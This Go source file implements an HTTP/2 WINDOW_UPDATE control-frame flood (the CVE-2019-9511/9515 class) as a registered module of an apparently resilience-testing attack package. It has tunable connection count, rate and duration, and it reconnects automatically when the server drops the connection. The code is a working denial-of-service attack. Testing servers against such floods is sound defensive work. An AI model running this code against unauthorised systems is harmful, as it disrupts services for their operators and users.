package h2attack

import (
	"context"
	"fmt"
	"time"

	"golang.org/x/net/http2"
)

// WindowUpdateFloodParams: window-update-flood sends WINDOW_UPDATE frames
// of increment 1, in turn on the connection and on one open stream: the
// control-frame flood class (CVE-2019-9511/9515 family), frames the server
// must process and that give it nothing to do. A healthy server spends
// little per frame, or limits control frames per connection.
type WindowUpdateFloodParams struct {
	// Connections attacking in parallel. Default 1.
	Connections int `yaml:"connections"`
	// Reconnect dials again (after 50ms) when the server closes a
	// connection before the time bound, at most 1000 times per
	// connection. Default true.
	Reconnect bool `yaml:"reconnect"`
	// Frames per connection. Default 100000.
	Frames int `yaml:"frames"`
	// Duration bounds the attack. Default 30s.
	Duration time.Duration `yaml:"duration"`
	// Rate is frames per second per connection; 0 = as fast as the
	// connection takes them. In a scenario it is the role's rate. Default 10000.
	Rate float64 `yaml:"-"`
}

// DefaultWindowUpdateFlood returns window-update-flood's defaults.
func DefaultWindowUpdateFlood() WindowUpdateFloodParams {
	return WindowUpdateFloodParams{Connections: 1, Reconnect: true, Frames: 100_000, Duration: 30 * time.Second, Rate: 10_000}
}

func (p *WindowUpdateFloodParams) limits() limits {
	return limits{connections: p.Connections, count: p.Frames, rate: p.Rate, duration: p.Duration}
}

// Validate implements Params.
func (p *WindowUpdateFloodParams) Validate() error {
	return p.limits().validate("window-update-flood", "frames")
}

// SetRate implements Params.
func (p *WindowUpdateFloodParams) SetRate(r float64) { p.Rate = r }

// Pace implements Params.
func (p *WindowUpdateFloodParams) Pace() float64 { return p.Rate }

// Run implements Params.
func (p *WindowUpdateFloodParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
	if err := p.Validate(); err != nil {
		return Result{Attack: "window-update-flood", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
	}
	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "window-update-flood", lim: p.limits(),
		describe: "WINDOW_UPDATE frames of increment 1, on the connection and one open stream in turn",
		loop: func(ctx context.Context, c *conn) (string, error) {
			id, err := c.openStream(false)
			if err != nil {
				return "", err
			}
			return c.pace(ctx, p.Frames, p.Rate, func(i int) error {
				sid := uint32(0)
				if i%2 == 1 {
					sid = id
				}
				return c.send(1, func(fr *http2.Framer) error { return fr.WriteWindowUpdate(sid, 1) })
			})
		}}, report)
}

func init() {
	register(Attack{Name: "window-update-flood", Summary: "WINDOW_UPDATE frames of increment 1 (control-frame flood)",
		Params: func() Params { p := DefaultWindowUpdateFlood(); return &p }})
}
